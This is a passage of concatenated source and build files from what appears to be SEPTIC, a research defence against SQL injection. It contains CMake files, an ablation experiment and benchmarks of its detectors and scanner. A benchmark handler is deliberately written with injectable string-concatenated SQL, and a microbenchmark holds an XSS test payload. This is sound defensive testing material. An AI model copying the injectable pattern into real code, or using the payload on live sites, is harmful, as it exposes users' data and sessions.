  "/root/repo/src/web/proxy.cpp" "src/web/CMakeFiles/septic_web.dir/proxy.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/proxy.cpp.o.d"
  "/root/repo/src/web/sanitize.cpp" "src/web/CMakeFiles/septic_web.dir/sanitize.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/sanitize.cpp.o.d"
  "/root/repo/src/web/stack.cpp" "src/web/CMakeFiles/septic_web.dir/stack.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/stack.cpp.o.d"
  "/root/repo/src/web/trainer.cpp" "src/web/CMakeFiles/septic_web.dir/trainer.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/trainer.cpp.o.d"
  "/root/repo/src/web/waf/crs_rules.cpp" "src/web/CMakeFiles/septic_web.dir/waf/crs_rules.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/waf/crs_rules.cpp.o.d"
  "/root/repo/src/web/waf/rule.cpp" "src/web/CMakeFiles/septic_web.dir/waf/rule.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/waf/rule.cpp.o.d"
  "/root/repo/src/web/waf/transform.cpp" "src/web/CMakeFiles/septic_web.dir/waf/transform.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/waf/transform.cpp.o.d"
  "/root/repo/src/web/waf/waf.cpp" "src/web/CMakeFiles/septic_web.dir/waf/waf.cpp.o" "gcc" "src/web/CMakeFiles/septic_web.dir/waf/waf.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/engine/CMakeFiles/septic_engine.dir/DependInfo.cmake"
  "/root/repo/build/src/septic/CMakeFiles/septic_core.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/septic_common.dir/DependInfo.cmake"
  "/root/repo/build/src/storage/CMakeFiles/septic_storage.dir/DependInfo.cmake"
  "/root/repo/build/src/sqlcore/CMakeFiles/septic_sqlcore.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")

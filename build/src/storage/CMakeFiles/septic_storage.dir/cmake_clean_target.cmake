file(REMOVE_RECURSE
  "libseptic_storage.a"
)

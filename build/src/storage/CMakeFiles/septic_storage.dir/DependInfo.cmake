
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/storage/catalog.cpp" "src/storage/CMakeFiles/septic_storage.dir/catalog.cpp.o" "gcc" "src/storage/CMakeFiles/septic_storage.dir/catalog.cpp.o.d"
  "/root/repo/src/storage/schema.cpp" "src/storage/CMakeFiles/septic_storage.dir/schema.cpp.o" "gcc" "src/storage/CMakeFiles/septic_storage.dir/schema.cpp.o.d"
  "/root/repo/src/storage/table.cpp" "src/storage/CMakeFiles/septic_storage.dir/table.cpp.o" "gcc" "src/storage/CMakeFiles/septic_storage.dir/table.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/sqlcore/CMakeFiles/septic_sqlcore.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/septic_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")

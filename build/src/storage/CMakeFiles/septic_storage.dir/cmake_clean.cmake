file(REMOVE_RECURSE
  "CMakeFiles/septic_storage.dir/catalog.cpp.o"
  "CMakeFiles/septic_storage.dir/catalog.cpp.o.d"
  "CMakeFiles/septic_storage.dir/schema.cpp.o"
  "CMakeFiles/septic_storage.dir/schema.cpp.o.d"
  "CMakeFiles/septic_storage.dir/table.cpp.o"
  "CMakeFiles/septic_storage.dir/table.cpp.o.d"
  "libseptic_storage.a"
  "libseptic_storage.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/septic_storage.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

# Empty dependencies file for septic_storage.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "libseptic_net.a"
)

# Empty dependencies file for septic_net.
# This may be replaced when dependencies are built.

file(REMOVE_RECURSE
  "CMakeFiles/septic_net.dir/client.cpp.o"
  "CMakeFiles/septic_net.dir/client.cpp.o.d"
  "CMakeFiles/septic_net.dir/protocol.cpp.o"
  "CMakeFiles/septic_net.dir/protocol.cpp.o.d"
  "CMakeFiles/septic_net.dir/server.cpp.o"
  "CMakeFiles/septic_net.dir/server.cpp.o.d"
  "libseptic_net.a"
  "libseptic_net.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/septic_net.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()

// Experiment E8 (ablation) — learning strategies (paper Section II-E).
//
// SEPTIC learns "in training mode or incrementally in normal mode", unlike
// GreenSQL/Percona which only have a training phase. This ablation
// withholds part of the application from the training crawl and compares:
//   full        complete training (the demo's phase C)
//   partial+inc half the forms trained; incremental learning ON
//   partial+strict  half trained; incremental learning OFF (unknown IDs
//                   are dropped in prevention mode)
// Reported: models learned up front, incremental models created at runtime,
// benign requests dropped (availability cost), attacks blocked.
#include <cstdio>
#include <memory>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

using namespace septic;

namespace {

struct Result {
  size_t trained_models = 0;
  size_t incremental_models = 0;
  size_t benign_dropped = 0;
  size_t benign_total = 0;
  size_t attacks_blocked = 0;
  size_t attacks_total = 0;
};

Result run(bool full_training, bool incremental) {
  engine::Database db;
  web::apps::WaspMonApp app;
  app.install(db);
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  web::WebStack stack(app, db);

  septic->set_mode(core::Mode::kTraining);
  if (full_training) {
    web::train_on_application(stack);
  } else {
    // Train only half the forms (every other one) — an incomplete crawl.
    auto forms = app.forms();
    for (size_t i = 0; i < forms.size(); i += 2) {
      std::map<std::string, std::string> params;
      for (const auto& field : forms[i].fields) {
        params[field.name] = field.sample;
      }
      web::Request r;
      r.method = forms[i].method;
      r.path = forms[i].path;
      r.params = std::move(params);
      stack.handle(r);
    }
  }
  Result result;
  result.trained_models = septic->store().model_count();

  septic->set_incremental_learning(incremental);
  septic->set_mode(core::Mode::kPrevention);

  // Benign traffic: probes + two workload rounds.
  auto benign = attacks::benign_probes("waspmon");
  for (int round = 0; round < 2; ++round) {
    for (const auto& r : app.workload()) benign.push_back(r);
  }
  for (const auto& request : benign) {
    ++result.benign_total;
    if (stack.handle(request).blocked()) ++result.benign_dropped;
  }
  result.incremental_models =
      septic->store().model_count() - result.trained_models;

  for (const auto& attack : attacks::waspmon_attacks()) {
    ++result.attacks_total;
    bool blocked = false;
    for (const auto& setup : attack.setup) {
      if (stack.handle(setup).blocked()) blocked = true;
    }
    if (!blocked) blocked = stack.handle(attack.attack).blocked();
    if (blocked) ++result.attacks_blocked;
  }
  return result;
}

}  // namespace

int main() {
  std::printf("# Ablation: training coverage x incremental learning "
              "(Section II-E)\n\n");
  std::printf("%-16s %8s %12s %14s %9s\n", "setting", "trained",
              "incremental", "benign-dropped", "blocked");

  struct Setting {
    const char* name;
    bool full;
    bool incremental;
  };
  const Setting settings[] = {
      {"full", true, true},
      {"partial+inc", false, true},
      {"partial+strict", false, false},
  };
  for (const auto& s : settings) {
    Result r = run(s.full, s.incremental);
    std::printf("%-16s %8zu %12zu %11zu/%zu %6zu/%zu\n", s.name,
                r.trained_models, r.incremental_models, r.benign_dropped,
                r.benign_total, r.attacks_blocked, r.attacks_total);
  }
  std::printf(
      "\n# expected: full training drops no benign traffic; partial+inc "
      "learns the missing models at runtime (no benign drops, but the "
      "first occurrence of an unseen *attack* shape would be learned too — "
      "the admin-review caveat of Section II-E); partial+strict trades "
      "benign availability for a closed policy\n");
  return 0;
}

// septic-scan microbenchmarks: the scanner is a lint gate, so its cost per
// handler file bounds how often it can run (every build? every commit?).
// Pins the three stages separately — lexing, the path-sensitive dataflow,
// and full scan including QM synthesis through the real SQL parser — plus
// JSON rendering, on a synthetic handler that exercises every construct
// the analyzer models (conditional build, ternary default, prepared binds,
// second-order read-back).
#include <benchmark/benchmark.h>

#include "analysis/scanner.h"
#include "analysis/source_lexer.h"

namespace {

using namespace septic;

constexpr const char* kHandler = R"src(
Response Bench::handle(const Request& request, AppContext& ctx) {
  using php::mysql_real_escape_string;
  using php::intval;
  if (request.path == "/list") {
    auto rs = ctx.sql("SELECT id, name FROM items ORDER BY name", "list");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/search") {
    std::string q = "SELECT id, name FROM items WHERE 1=1";
    std::string name = mysql_real_escape_string(param(request, "name"));
    std::string year = mysql_real_escape_string(param(request, "year"));
    if (!name.empty()) {
      q += " AND name LIKE '%" + name + "%'";
    }
    if (!year.empty()) {
      q += " AND year = " + year;
    }
    auto rs = ctx.sql(std::move(q), year.empty() ? "search" : "search-year");
    return Response::make_ok(render_rows(rs));
  }
  if (request.path == "/add") {
    ctx.sql_prepared("INSERT INTO items (name, note) VALUES (?, ?)",
                     {sql::Value(param(request, "name")),
                      sql::Value(param(request, "note"))},
                     "add");
    return Response::make_ok("added\n");
  }
  if (request.path == "/hop") {
    auto rs = ctx.sql("SELECT note FROM items WHERE id = " +
                          std::to_string(intval(param(request, "id"))),
                      "hop-read");
    std::string note = rs.rows[0][0].coerce_string();
    auto rs2 = ctx.sql("SELECT id FROM items WHERE note = '" + note + "'",
                       "hop-write");
    return Response::make_ok(render_rows(rs2));
  }
  return Response::make_not_found();
}
)src";

void BM_LexHandler(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(analysis::lex_cpp(kHandler));
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(std::string(kHandler).size()));
}
BENCHMARK(BM_LexHandler);

void BM_AnalyzeHandler(benchmark::State& state) {
  analysis::ScanOptions opts;
  opts.app_name = "bench";
  opts.file_label = "bench.cpp";
  for (auto _ : state) {
    benchmark::DoNotOptimize(analysis::analyze_source(kHandler, opts));
  }
}
BENCHMARK(BM_AnalyzeHandler);

void BM_ScanAndEmitModels(benchmark::State& state) {
  for (auto _ : state) {
    core::QmStore store;
    benchmark::DoNotOptimize(
        analysis::scan_source(kHandler, "bench", "bench.cpp", store));
  }
}
BENCHMARK(BM_ScanAndEmitModels);

void BM_RenderJsonReport(benchmark::State& state) {
  core::QmStore store;
  analysis::ScanReport report;
  report.apps.push_back(
      analysis::scan_source(kHandler, "bench", "bench.cpp", store));
  for (auto _ : state) {
    benchmark::DoNotOptimize(analysis::render_json(report));
  }
}
BENCHMARK(BM_RenderJsonReport);

}  // namespace

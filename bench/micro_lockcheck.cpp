// lockcheck microbenchmarks: the analyzer is a check.sh gate, so its cost
// over the whole tree bounds how often it runs (every commit, ideally).
// Pins the three stages separately — extraction (declaration + body pass)
// over the repository's own sources, the interprocedural checker fixpoint,
// and the end-to-end scan including spec parse and JSON rendering — and
// reports files/sec so the gate's budget is visible in absolute terms.
//
// Needs SEPTIC_SOURCE_DIR (set by the bench CMakeLists) to find the tree;
// the corpus is whatever src/ holds at build time, so numbers drift as the
// repository grows — compare runs against the same checkout.
#include <benchmark/benchmark.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <utility>
#include <vector>

#include "analysis/lockcheck/lock_check.h"
#include "analysis/lockcheck/lock_extract.h"
#include "analysis/lockcheck/lock_spec.h"

namespace {

namespace fs = std::filesystem;
using namespace septic::analysis::lockcheck;

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

/// The repository's own sources, loaded once: path → contents. Lexing is
/// part of what we measure, so contents stay raw text here.
const std::vector<std::pair<std::string, std::string>>& corpus() {
  static const auto files = [] {
    std::vector<std::pair<std::string, std::string>> out;
    const std::string root = std::string(SEPTIC_SOURCE_DIR) + "/src";
    for (const auto& entry : fs::recursive_directory_iterator(root)) {
      if (!entry.is_regular_file()) continue;
      const fs::path& p = entry.path();
      if (p.extension() != ".cpp" && p.extension() != ".h") continue;
      out.emplace_back(p.generic_string(), read_file(p.generic_string()));
    }
    return out;
  }();
  return files;
}

LockSpec repo_spec() {
  LockSpec spec;
  std::string err;
  spec.parse(read_file(std::string(SEPTIC_SOURCE_DIR) + "/locks.spec"), &err);
  return spec;
}

/// Extraction only: lex + declaration pass + body pass over every source
/// file. This dominates end-to-end time, so files/sec here is effectively
/// the gate's throughput.
void BM_ExtractRepo(benchmark::State& state) {
  const auto& files = corpus();
  size_t functions = 0;
  for (auto _ : state) {
    Extractor ex;
    for (const auto& [path, text] : files) ex.add_file(path, text);
    CodeModel model = ex.build();
    functions = model.functions.size();
    benchmark::DoNotOptimize(model);
  }
  state.counters["files/s"] = benchmark::Counter(
      static_cast<double>(files.size()), benchmark::Counter::kIsIterationInvariantRate);
  state.counters["functions"] = static_cast<double>(functions);
}
BENCHMARK(BM_ExtractRepo)->Unit(benchmark::kMillisecond);

/// Checker fixpoint only, on a pre-built model: summary propagation over
/// the call graph plus every per-function walk against the spec.
void BM_CheckRepoModel(benchmark::State& state) {
  Extractor ex;
  for (const auto& [path, text] : corpus()) ex.add_file(path, text);
  const CodeModel model = ex.build();
  const LockSpec spec = repo_spec();
  for (auto _ : state) {
    LockReport report = check_model(model, spec, "locks.spec");
    benchmark::DoNotOptimize(report);
  }
  state.counters["functions/s"] = benchmark::Counter(
      static_cast<double>(model.functions.size()),
      benchmark::Counter::kIsIterationInvariantRate);
}
BENCHMARK(BM_CheckRepoModel)->Unit(benchmark::kMillisecond);

/// What `scripts/check.sh lockcheck` actually pays per run: spec parse,
/// extraction, checking, and the JSON render.
void BM_EndToEndScan(benchmark::State& state) {
  const auto& files = corpus();
  for (auto _ : state) {
    LockSpec spec = repo_spec();
    Extractor ex;
    for (const auto& [path, text] : files) ex.add_file(path, text);
    LockReport report = check_model(ex.build(), spec, "locks.spec");
    std::string json = render_lock_json(report);
    benchmark::DoNotOptimize(json);
  }
  state.counters["files/s"] = benchmark::Counter(
      static_cast<double>(files.size()),
      benchmark::Counter::kIsIterationInvariantRate);
}
BENCHMARK(BM_EndToEndScan)->Unit(benchmark::kMillisecond);

}  // namespace

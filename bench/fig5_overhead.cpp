// Experiment E1 — reproduces paper Figure 5: "Overhead of SEPTIC with the
// applications PHP Address Book, refbase and ZeroCMS".
//
// For each application, the recorded workload is replayed by 20 concurrent
// browsers (4 machines x 5 browsers in the paper; threads here) against the
// vanilla engine and against SEPTIC in its four detection configurations:
//   NN  both detections off      (paper: ~0.5% overhead)
//   YN  SQLI only                (paper: ~0.8%)
//   NY  stored-injection only
//   YY  both                     (paper: ~2.2%)
// The output rows are the figure's bars: average-latency overhead percent
// per (application, configuration). Absolute values differ from the paper's
// testbed; the expected *shape* is NN < YN <= NY <= YY, all small, and
// similar across applications.
//
// Scale via env: SEPTIC_BENCH_BROWSERS (20), SEPTIC_BENCH_LOOPS (30).
#include <cstdio>

#include "harness.h"

using namespace septic::bench;

int main() {
  const char* apps[] = {"addressbook", "refbase", "zerocms"};
  const SepticConfig configs[] = {SepticConfig::kNN, SepticConfig::kYN,
                                  SepticConfig::kNY, SepticConfig::kYY};
  const int browsers = bench_browsers();
  const int loops = bench_loops();
  const int rounds = bench_rounds();

  std::printf("# Figure 5: SEPTIC average-latency overhead (%%)\n");
  std::printf("# browsers=%d loops=%d rounds=%d (workloads: addressbook=12, "
              "refbase=14, zerocms=26 requests)\n",
              browsers, loops, rounds);
  std::printf("%-12s %-8s %14s %14s %12s %10s %8s\n", "app", "config",
              "base_p50_us", "cfg_p50_us", "rps", "overhead%", "errors");

  for (const char* app : apps) {
    for (SepticConfig config : configs) {
      OverheadResult r =
          measure_overhead(app, config, browsers, loops, rounds);
      std::printf("%-12s %-8s %14.1f %14.1f %12.0f %9.2f%% %8zu\n", app,
                  septic_config_name(config), r.baseline.p50_us,
                  r.measured.p50_us, r.measured.throughput_rps,
                  r.overhead_pct, r.measured.errors);
    }
  }
  std::printf(
      "\n# paper reference (Fig. 5): NN ~0.5%%, YN ~0.8%%, YY ~2.2%%; "
      "overhead similar across the three applications\n");
  return 0;
}

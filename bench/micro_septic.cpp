// Experiment E6 — component microbenchmarks backing the paper's Section
// II-F claim that SEPTIC's per-query work is "very limited": cost of each
// SEPTIC stage in isolation, and of the full pipeline with and without the
// interceptor.
#include <benchmark/benchmark.h>

#include <memory>

#include "common/unicode.h"
#include "engine/database.h"
#include "septic/detector.h"
#include "septic/id_generator.h"
#include "septic/query_model.h"
#include "septic/septic.h"
#include "sqlcore/item.h"
#include "sqlcore/parser.h"
#include "net/client.h"
#include "net/server.h"
#include "web/proxy.h"

namespace {

using namespace septic;

const char* kQuery =
    "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234";
const char* kBigQuery =
    "SELECT t.a, t.b, u.c, COUNT(*) AS n FROM t JOIN u ON t.id = u.tid "
    "WHERE t.a = 'x' AND t.b BETWEEN 1 AND 100 AND u.c IN (1, 2, 3, 4, 5) "
    "GROUP BY t.a, t.b, u.c HAVING COUNT(*) > 2 ORDER BY n DESC LIMIT 10";

void BM_CharsetConvert(benchmark::State& state) {
  std::string payload =
      "SELECT * FROM t WHERE a = 'ID34FG\xca\xbc' AND b \xef\xbc\x9d 1";
  for (auto _ : state) {
    benchmark::DoNotOptimize(common::server_charset_convert(payload));
  }
}
BENCHMARK(BM_CharsetConvert);

void BM_Parse(benchmark::State& state) {
  const char* q = state.range(0) == 0 ? kQuery : kBigQuery;
  for (auto _ : state) {
    benchmark::DoNotOptimize(sql::parse(q));
  }
}
BENCHMARK(BM_Parse)->Arg(0)->Arg(1);

void BM_BuildItemStack(benchmark::State& state) {
  sql::ParsedQuery parsed =
      sql::parse(state.range(0) == 0 ? kQuery : kBigQuery);
  for (auto _ : state) {
    benchmark::DoNotOptimize(sql::build_item_stack(parsed.statement));
  }
}
BENCHMARK(BM_BuildItemStack)->Arg(0)->Arg(1);

void BM_DeriveQueryModel(benchmark::State& state) {
  sql::ItemStack qs = sql::build_item_stack(sql::parse(kQuery).statement);
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::make_query_model(qs));
  }
}
BENCHMARK(BM_DeriveQueryModel);

void BM_CompareQsQm(benchmark::State& state) {
  sql::ItemStack qs = sql::build_item_stack(
      sql::parse(state.range(0) == 0 ? kQuery : kBigQuery).statement);
  core::QueryModel qm = core::make_query_model(qs);
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::compare_qs_qm(qs, qm));
  }
}
BENCHMARK(BM_CompareQsQm)->Arg(0)->Arg(1);

void BM_IdGeneration(benchmark::State& state) {
  sql::ParsedQuery parsed =
      sql::parse(std::string("/* ID:app:site */ ") + kQuery);
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::IdGenerator::generate(parsed));
  }
}
BENCHMARK(BM_IdGeneration);

void BM_StoreLookup(benchmark::State& state) {
  core::QmStore store;
  sql::ItemStack qs = sql::build_item_stack(sql::parse(kQuery).statement);
  core::QueryModel qm = core::make_query_model(qs);
  for (int i = 0; i < 200; ++i) {
    store.add("id" + std::to_string(i), qm);
  }
  store.add("target", qm);
  for (auto _ : state) {
    benchmark::DoNotOptimize(store.lookup("target"));
  }
}
BENCHMARK(BM_StoreLookup);

void BM_PluginQuickFilter(benchmark::State& state) {
  auto plugins = core::make_default_plugins();
  std::string benign = "a perfectly ordinary profile note about appliances";
  for (auto _ : state) {
    for (const auto& p : plugins) {
      benchmark::DoNotOptimize(p->quick_check(benign));
    }
  }
}
BENCHMARK(BM_PluginQuickFilter);

void BM_PluginDeepXss(benchmark::State& state) {
  auto plugin = core::make_xss_plugin();
  std::string payload = "<details open ontoggle=alert(1)>x</details>";
  for (auto _ : state) {
    benchmark::DoNotOptimize(plugin->deep_check(payload));
  }
}
BENCHMARK(BM_PluginDeepXss);

void BM_ProxyFingerprint(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(web::QueryFirewall::fingerprint(kQuery));
  }
}
BENCHMARK(BM_ProxyFingerprint);

// Full pipeline: vanilla engine vs engine+SEPTIC, per query.
void BM_PipelineVanilla(benchmark::State& state) {
  engine::Database db;
  db.execute_admin(
      "CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID "
      "TEXT, creditCard INT, passenger TEXT, flight TEXT, seat TEXT)");
  db.execute_admin(
      "INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)");
  engine::Session session;
  for (auto _ : state) {
    benchmark::DoNotOptimize(db.execute(session, kQuery));
  }
}
BENCHMARK(BM_PipelineVanilla);

void BM_PipelineWithSeptic(benchmark::State& state) {
  engine::Database db;
  db.execute_admin(
      "CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID "
      "TEXT, creditCard INT, passenger TEXT, flight TEXT, seat TEXT)");
  db.execute_admin(
      "INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)");
  auto septic = std::make_shared<core::Septic>();
  septic->set_log_processed_queries(false);
  db.set_interceptor(septic);
  engine::Session session;
  septic->set_mode(core::Mode::kTraining);
  db.execute(session, kQuery);
  septic->set_mode(core::Mode::kPrevention);
  for (auto _ : state) {
    benchmark::DoNotOptimize(db.execute(session, kQuery));
  }
}
BENCHMARK(BM_PipelineWithSeptic);

void BM_WireRoundTrip(benchmark::State& state) {
  engine::Database db;
  db.execute_admin(
      "CREATE TABLE w (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  db.execute_admin("INSERT INTO w (v) VALUES ('x')");
  net::Server server(db, 0);
  server.start();
  net::Client client(server.port());
  for (auto _ : state) {
    benchmark::DoNotOptimize(client.query("SELECT v FROM w WHERE id = 1"));
  }
  server.stop();
}
BENCHMARK(BM_WireRoundTrip);

void BM_WirePreparedExec(benchmark::State& state) {
  engine::Database db;
  db.execute_admin(
      "CREATE TABLE w (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)");
  db.execute_admin("INSERT INTO w (v) VALUES ('x')");
  net::Server server(db, 0);
  server.start();
  net::Client client(server.port());
  uint64_t stmt = client.prepare("SELECT v FROM w WHERE id = ?");
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        client.execute(stmt, {sql::Value(int64_t{1})}));
  }
  server.stop();
}
BENCHMARK(BM_WirePreparedExec);

}  // namespace

// Experiment E6 — component microbenchmarks backing the paper's Section
// II-F claim that SEPTIC's per-query work is "very limited": cost of each
// SEPTIC stage in isolation, and of the full pipeline with and without the
// interceptor.
#include <benchmark/benchmark.h>

#include <atomic>
#include <cstdlib>
#include <memory>
#include <new>

#include "common/unicode.h"
#include "engine/database.h"
#include "septic/detector.h"
#include "septic/id_generator.h"
#include "septic/query_model.h"
#include "septic/septic.h"
#include "sqlcore/item.h"
#include "sqlcore/lexer.h"
#include "sqlcore/parser.h"
#include "net/client.h"
#include "net/server.h"
#include "web/proxy.h"

// ------------------------------------------------------------------------
// Counting allocator: replace the global operator new/delete in this bench
// binary only, so every stage reports an `allocs/op` counter alongside its
// latency. Heap traffic is the quantity the string_view lexer and the
// digest cache exist to remove; a latency-only bench can hide a regression
// that the allocation count makes obvious.
static std::atomic<uint64_t> g_alloc_count{0};

void* operator new(std::size_t n) {
  g_alloc_count.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(n ? n : 1)) return p;
  throw std::bad_alloc();
}
void* operator new[](std::size_t n) { return ::operator new(n); }
void operator delete(void* p) noexcept { std::free(p); }
void operator delete[](void* p) noexcept { std::free(p); }
void operator delete(void* p, std::size_t) noexcept { std::free(p); }
void operator delete[](void* p, std::size_t) noexcept { std::free(p); }

namespace {

using namespace septic;

/// Wraps a bench loop with the allocation counter: call start() right
/// before `for (auto _ : state)` and report(state) right after.
struct AllocCounter {
  uint64_t start_ = 0;
  void start() { start_ = g_alloc_count.load(std::memory_order_relaxed); }
  void report(benchmark::State& state) {
    state.counters["allocs/op"] = benchmark::Counter(
        static_cast<double>(g_alloc_count.load(std::memory_order_relaxed) -
                            start_),
        benchmark::Counter::kAvgIterations);
  }
};

const char* kQuery =
    "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234";
const char* kBigQuery =
    "SELECT t.a, t.b, u.c, COUNT(*) AS n FROM t JOIN u ON t.id = u.tid "
    "WHERE t.a = 'x' AND t.b BETWEEN 1 AND 100 AND u.c IN (1, 2, 3, 4, 5) "
    "GROUP BY t.a, t.b, u.c HAVING COUNT(*) > 2 ORDER BY n DESC LIMIT 10";

void BM_CharsetConvert(benchmark::State& state) {
  std::string payload =
      "SELECT * FROM t WHERE a = 'ID34FG\xca\xbc' AND b \xef\xbc\x9d 1";
  AllocCounter ac;
  ac.start();
  for (auto _ : state) {
    benchmark::DoNotOptimize(common::server_charset_convert(payload));
  }
  ac.report(state);
}
BENCHMARK(BM_CharsetConvert);

void BM_Lex(benchmark::State& state) {
  const char* q = state.range(0) == 0 ? kQuery : kBigQuery;
  AllocCounter ac;
  ac.start();
  for (auto _ : state) {
    benchmark::DoNotOptimize(sql::lex(q));
  }
  ac.report(state);
}
BENCHMARK(BM_Lex)->Arg(0)->Arg(1);

void BM_Parse(benchmark::State& state) {
  const char* q = state.range(0) == 0 ? kQuery : kBigQuery;
  AllocCounter ac;
  ac.start();
  for (auto _ : state) {
    benchmark::DoNotOptimize(sql::parse(q));
  }
  ac.report(state);
}
BENCHMARK(BM_Parse)->Arg(0)->Arg(1);

void BM_BuildItemStack(benchmark::State& state) {
  sql::ParsedQuery parsed =
      sql::parse(state.range(0) == 0 ? kQuery : kBigQuery);
  AllocCounter ac;
  ac.start();
  for (auto _ : state) {
    benchmark::DoNotOptimize(sql::build_item_stack(parsed.statement));
  }
  ac.report(state);
}
BENCHMARK(BM_BuildItemStack)->Arg(0)->Arg(1);

void BM_DeriveQueryModel(benchmark::State& state) {
  sql::ItemStack qs = sql::build_item_stack(sql::parse(kQuery).statement);
  AllocCounter ac;
  ac.start();
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::make_query_model(qs));
  }
  ac.report(state);
}
BENCHMARK(BM_DeriveQueryModel);

void BM_CompareQsQm(benchmark::State& state) {
  sql::ItemStack qs = sql::build_item_stack(
      sql::parse(state.range(0) == 0 ? kQuery : kBigQuery).statement);
  core::QueryModel qm = core::make_query_model(qs);
  AllocCounter ac;
  ac.start();
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::compare_qs_qm(qs, qm));
  }
  ac.report(state);
}
BENCHMARK(BM_CompareQsQm)->Arg(0)->Arg(1);

void BM_IdGeneration(benchmark::State& state) {
  sql::ParsedQuery parsed =
      sql::parse(std::string("/* ID:app:site */ ") + kQuery);
  for (auto _ : state) {
    benchmark::DoNotOptimize(core::IdGenerator::generate(parsed));
  }
}
BENCHMARK(BM_IdGeneration);

void BM_StoreLookup(benchmark::State& state) {
  core::QmStore store;
  sql::ItemStack qs = sql::build_item_stack(sql::parse(kQuery).statement);
  core::QueryModel qm = core::make_query_model(qs);
  for (int i = 0; i < 200; ++i) {
    store.add("id" + std::to_string(i), qm);
  }
  store.add("target", qm);
  for (auto _ : state) {
    benchmark::DoNotOptimize(store.snapshot("target"));
  }
}
BENCHMARK(BM_StoreLookup);

// The in-place read the detector hot path uses (no refcount bump, no
// copy); compare against BM_StoreLookup's snapshot pin.
void BM_StoreLookupApply(benchmark::State& state) {
  core::QmStore store;
  sql::ItemStack qs = sql::build_item_stack(sql::parse(kQuery).statement);
  core::QueryModel qm = core::make_query_model(qs);
  for (int i = 0; i < 200; ++i) {
    store.add("id" + std::to_string(i), qm);
  }
  store.add("target", qm);
  for (auto _ : state) {
    size_t n = 0;
    store.lookup_apply("target", [&](const std::vector<core::QueryModel>& ms) {
      n = ms.size();
    });
    benchmark::DoNotOptimize(n);
  }
}
BENCHMARK(BM_StoreLookupApply);

void BM_PluginQuickFilter(benchmark::State& state) {
  auto plugins = core::make_default_plugins();
  std::string benign = "a perfectly ordinary profile note about appliances";
  for (auto _ : state) {
    for (const auto& p : plugins) {
      benchmark::DoNotOptimize(p->quick_check(benign));
    }
  }
}
BENCHMARK(BM_PluginQuickFilter);

void BM_PluginDeepXss(benchmark::State& state) {
  auto plugin = core::make_xss_plugin();
  std::string payload = "<details open ontoggle=alert(1)>x</details>";
  for (auto _ : state) {
    benchmark::DoNotOptimize(plugin->deep_check(payload));
  }
}
BENCHMARK(BM_PluginDeepXss);

void BM_ProxyFingerprint(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(web::QueryFirewall::fingerprint(kQuery));
  }
}
BENCHMARK(BM_ProxyFingerprint);

// Full pipeline: vanilla engine vs engine+SEPTIC, per query. The Arg
// selects the digest cache state: 0 = cold (budget 0, every iteration
// runs the whole conversion->parse->hook pipeline), 1 = warm (default
// budget; byte-identical repeats replay the cached parse + verdict).
void setup_tickets(engine::Database& db) {
  db.execute_admin(
      "CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID "
      "TEXT, creditCard INT, passenger TEXT, flight TEXT, seat TEXT)");
  db.execute_admin(
      "INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)");
}

void BM_PipelineVanilla(benchmark::State& state) {
  engine::Database db;
  setup_tickets(db);
  if (state.range(0) == 0) db.set_digest_cache_budget(0);
  engine::Session session;
  db.execute(session, kQuery);  // warm the cache when enabled
  AllocCounter ac;
  ac.start();
